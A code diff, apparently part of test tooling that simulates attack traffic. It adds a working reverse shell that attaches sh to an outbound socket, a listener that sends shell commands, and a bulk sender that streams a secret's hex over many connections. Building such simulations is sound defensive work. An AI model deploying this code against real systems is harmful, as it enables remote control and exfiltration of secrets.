@@ -188,3 +188,74 @@ def miner_main() -> None:
                 print("share answered", flush=True)
                 return
     print("gave up", bytes(received)[:400], flush=True)
+
+
+SHELL_HELLO = b"shell ready\n"
+SHELL_COMMANDS = (b"echo SHELL-$((6*7))\n", b"id -u\n", b"exit\n")
+"""What the attacker types into the reverse shell, one line at a time, each after the previous answer."""
+BULK_LINE = 64
+"""Hex characters of the secret per line of the bulk exfiltration (a plain text line protocol)."""
+
+
+def listener_main() -> None:
+    """``python -c '...listener_main()' ADDRESS:PORT``: a reverse-shell listener and bulk sink. A connection that
+    opens with ``SHELL_HELLO`` is a shell: it gets the commands, one per answer, its answers logged (``shell said
+    ...``); any other is a sink (logged as ``got N bytes``)."""
+    address, port = sys.argv[1].rsplit(":", 1)
+    listener = socket.socket()
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind((address, int(port)))
+    listener.listen(16)
+    print("listening", flush=True)
+    while True:
+        conn, _ = listener.accept()
+        threading.Thread(target=_listen, args=(conn,), daemon=True).start()
+
+
+def _listen(conn: socket.socket) -> None:
+    with conn:
+        conn.settimeout(10)
+        first = conn.recv(65536)
+        if not first.startswith(SHELL_HELLO):
+            total = len(first)
+            while data := conn.recv(65536):
+                total += len(data)
+            print(f"got {total} bytes", flush=True)
+            return
+        for command in SHELL_COMMANDS:
+            conn.sendall(command)
+            try:
+                answer = conn.recv(4096)
+            except OSError:
+                return
+            print("shell said", answer, flush=True)
+            if not answer:
+                return
+
+
+def shell_main() -> None:
+    """``python -c '...shell_main()' ADDRESS PORT``: a reverse shell (``sh`` on the connection's descriptor)."""
+    import subprocess
+
+    conn = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
+    conn.sendall(SHELL_HELLO)  # a reverse shell's prompt: the client speaks first
+    subprocess.run(["sh"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=subprocess.STDOUT, timeout=30, check=False)
+
+
+def bulk_main() -> None:
+    """``python -c '...bulk_main()' ADDRESS PORT CONNECTIONS BYTES SECRET_HEX``: BYTES of lines of the secret's hex
+    on each of CONNECTIONS connections; prints how many connections wrote everything and got the server's close."""
+    address, port, secret = sys.argv[1], int(sys.argv[2]), sys.argv[5]
+    connections, size = int(sys.argv[3]), int(sys.argv[4])
+    line = (secret * (BULK_LINE // len(secret) + 1))[:BULK_LINE].encode() + b"\n"
+    whole = 0
+    for _ in range(connections):
+        try:
+            with socket.create_connection((address, port), timeout=10) as conn:
+                conn.sendall(line * (size // len(line)))
+                conn.shutdown(socket.SHUT_WR)
+                conn.recv(1)
+                whole += 1
+        except OSError as exc:
+            print("connection failed", exc, flush=True)
+    print(f"sent whole on {whole} connections", flush=True)
